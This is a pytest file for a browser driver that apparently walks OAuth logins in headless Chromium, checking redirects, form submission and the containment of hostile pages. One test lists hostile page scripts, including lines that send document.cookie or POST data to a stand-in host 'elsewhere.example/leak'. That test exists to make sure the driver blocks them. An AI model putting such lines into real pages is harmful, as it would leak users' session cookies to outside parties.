"""The browser driver in the system's Chromium, on small servers whose pages need script."""

import os
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from grantproof.errors import GrantproofError, Inconclusive
from grantproof.login import Chromium, Journey, UserAgent
from grantproof.login.browser import BrowserDriver
from grantproof.login.chromium import NAMES, find_chromium
from grantproof.profile.signing_in import LoginStep
from grantproof.transport import Recorder, Redactor, Transport
from grantproof.wire.request import Request
from tests.unit.login.server import Heard, Pages, Reply, Site, redirect, serve

CALLBACK = "https://app.example/cb"
DONE = f"{CALLBACK}#access_token=t0ken&state=a%2Bb"
STEP = {"when": "form#login", "fill": {"username": "alice", "password": "pa55word"}, "submit": "button"}


@pytest.fixture(scope="module")
def chromium() -> Iterator[Chromium]:
    try:
        find_chromium()
    except GrantproofError as problem:
        if os.environ.get("GRANTPROOF_REQUIRE_CHROMIUM"):
            raise
        pytest.skip(str(problem))
    started = Chromium()
    yield started
    started.close()


Walk = Callable[..., Journey]


@pytest.fixture
def walk(chromium: Chromium) -> Walk:
    def go(site: Site, *steps: dict[str, Any], agent: UserAgent | None = None, **options: Any) -> Journey:
        transport = Transport(Recorder(Redactor(["pa55word"])), timeout_s=5)
        driver = BrowserDriver(transport, [LoginStep.model_validate(each) for each in steps], {site.origin}, chromium)
        with transport:
            return driver.walk(Request("GET", f"{site.origin}/authorize?x=1"), agent or UserAgent(), **options)

    return go


def page(body: str, *headers: tuple[str, str]) -> Callable[[Heard], Reply]:
    return lambda _heard: Reply(f"<!doctype html><title>Sign in</title>{body}", headers=headers)


RENDERED = """<div id="root"></div><script>
setTimeout(() => {
  document.getElementById("root").innerHTML = `<form id="login"><input name="username">
    <input name="password" type="password"><button type="button">Go</button></form>`;
  document.querySelector("button").onclick = async () => {
    const value = (name) => document.querySelector(`[name=${name}]`).value;
    const answer = await fetch("/api/login", {method: "POST", headers: {"Content-Type": "application/json"},
      body: JSON.stringify({user: value("username"), password: value("password")})});
    const told = await answer.json();
    location.href = told.next;
  };
}, 100);
</script>"""


def api(heard: Heard) -> Reply:
    good = '"password":"pa55word"' in heard.body
    headers = (("Content-Type", "application/json"), ("Set-Cookie", "sid=opened; Path=/; HttpOnly"))
    return Reply(f'{{"next": "{"/resume" if good else "/authorize?x=1"}"}}', headers=headers)


def resume(heard: Heard) -> Reply:
    return redirect(DONE) if "sid=opened" in heard.cookie else Reply("<title>No session</title>", 403)


def test_a_login_that_scripts_render_ends_at_the_client_with_its_fragment(walk: Walk) -> None:
    agent = UserAgent()
    with serve({"/authorize": page(RENDERED), "/api/login": api, "/resume": resume}) as site:
        journey = walk(site, STEP, agent=agent)
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == ("3xx", DONE)
    assert journey.acted == ["form#login"]
    assert agent.jar.named("sid") == "opened"
    assert site.paths == ["GET /authorize", "POST /api/login", "GET /resume"]


def test_a_session_is_shared_with_plain_requests(walk: Walk) -> None:
    agent = UserAgent()
    pages: Pages = {"/authorize": resume, "/resume": resume}
    with serve({**pages, "/authorize": page(RENDERED), "/api/login": api}) as site:
        walk(site, STEP, agent=agent)
        header = agent.jar.header(f"{site.origin}/authorize")
    assert header == "sid=opened"


JOINED = f'const x = "{CALLBACK}"; location.assign(x + "#" + ["access_token=t0ken", "state=a%2Bb"].join("&"))'
POSTED = f"""const form = document.createElement("form"); form.method = "POST"; form.action = "{CALLBACK}";
form.innerHTML = '<input name="access_token" value="t0ken">'; document.body.append(form); form.submit()"""


@pytest.mark.parametrize(
    ("script", "kind", "url"),
    [
        (f'location.href = "{DONE}"', "script", DONE),
        (JOINED, "script", DONE),
        (f'setTimeout(() => location.replace("{DONE}"), 200)', "script", DONE),
        (f'document.write(`<meta http-equiv="refresh" content="0; url={DONE}">`)', "script", DONE),
        (POSTED, "form_post", CALLBACK),
    ],
)
@pytest.mark.parametrize("stop_at_pages", [False, True])
def test_where_a_script_leads_is_read_and_not_loaded(
    walk: Walk, script: str, kind: str, url: str, *, stop_at_pages: bool
) -> None:
    with serve({"/authorize": page(f"<body><script>{script}</script>")}) as site:
        journey = walk(site, leave_at=(CALLBACK,), stop_at_pages=stop_at_pages)
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == (kind, url)
    assert journey.page is None
    if kind == "form_post":
        assert journey.redirect.form is not None
        assert journey.redirect.form.pairs == (("access_token", "t0ken"),)
    assert site.paths == ["GET /authorize"]


def test_a_script_that_only_mentions_the_client_goes_nowhere(walk: Walk) -> None:
    script = f'<script>function never() {{ location.href = "{DONE}"; }}</script><p>Error</p>'
    with serve({"/authorize": page(script)}) as site:
        journey = walk(site, leave_at=(CALLBACK,))
    assert journey.redirect is None
    assert journey.page is not None


def test_pages_without_script_are_walked_as_forms(walk: Walk) -> None:
    form = '<form id="login" action="/login" method="post"><input name="username"><input name="password"><button>Go'
    with serve({"/authorize": page(form), "/login": lambda _: redirect(DONE)}) as site:
        journey = walk(site, STEP)
    assert journey.redirect is not None
    assert site.sent("/login").form == {"username": ["alice"], "password": ["pa55word"]}


def test_a_form_on_a_page_with_script_is_filled_and_sent(walk: Walk) -> None:
    form = """<script>document.cookie = "seen=yes; path=/"</script>
      <form id="login" action="/login" method="post"><input name="username"><input name="password" type="password">
      <select name="realm"><option value="a">A</option><option value="b">B</option></select>
      <input type="checkbox" name="stay" value="1"><input type="hidden" name="csrf" value="c5rf">
      <button name="act" value="no" type="submit">No</button><button name="act" value="yes" type="submit">Yes</button>
      </form>"""
    step = {**STEP, "fill": {**STEP["fill"], "realm": "b", "stay": "on"}, "submit": "button[value=yes]"}  # type: ignore[dict-item]
    with serve({"/authorize": page(form), "/login": lambda _: redirect(DONE)}) as site:
        journey = walk(site, step)
    assert journey.redirect is not None
    sent = site.sent("/login")
    wanted = {"username": "alice", "password": "pa55word", "realm": "b", "stay": "1", "csrf": "c5rf", "act": "yes"}
    assert sent.form == {name: [value] for name, value in wanted.items()}
    assert "seen=yes" in sent.cookie


@pytest.mark.parametrize(
    "script",
    [
        "alert(1); confirm(2); prompt(3)",
        'window.open("/popup")',
        "for (;;) {}",
        'new Image().src = "https://elsewhere.example/leak?" + document.cookie',
        'fetch("https://elsewhere.example/leak", {method: "POST", body: "x"})',
        'setInterval(() => history.pushState(1, "", "/x" + Math.random()), 10)',
        'navigator.serviceWorker.register("/worker.js")',
        'window.onbeforeunload = () => "stay"',
        'document.body.innerHTML = "x".repeat(5e6)',
    ],
)
def test_a_hostile_page_ends_the_journey_and_reaches_nobody(walk: Walk, script: str) -> None:
    with serve({"/authorize": page(f"<body><p>hello</p><script>{script}</script>")}) as site:
        journey = walk(site, STEP)
    assert journey.redirect is None
    assert journey.page is not None
    assert set(site.paths) <= {"GET /authorize", "GET /popup", "GET /worker.js"}


def test_a_wrong_password_is_told(walk: Walk) -> None:
    wrong = {**STEP, "fill": {"username": "alice", "password": "wrong"}}
    with serve({"/authorize": page(RENDERED), "/api/login": api}) as site, pytest.raises(Inconclusive) as ending:
        walk(site, wrong)
    assert "are the user's name and password right?" in str(ending.value)


def test_a_button_that_is_not_there_is_told(walk: Walk) -> None:
    step = {**STEP, "submit": "button.missing"}
    with serve({"/authorize": page(RENDERED)}) as site, pytest.raises(Inconclusive) as ending:
        walk(site, step)
    assert "finds no button 'button.missing'" in str(ending.value)


def test_no_browser_is_a_profile_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GRANTPROOF_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(GrantproofError, match="no Chromium is on the PATH"):
        find_chromium()
    monkeypatch.setenv("GRANTPROOF_CHROMIUM", "/nonexistent/chromium")
    with pytest.raises(GrantproofError, match="/nonexistent/chromium is no program"):
        find_chromium()
    assert "chromium" in NAMES
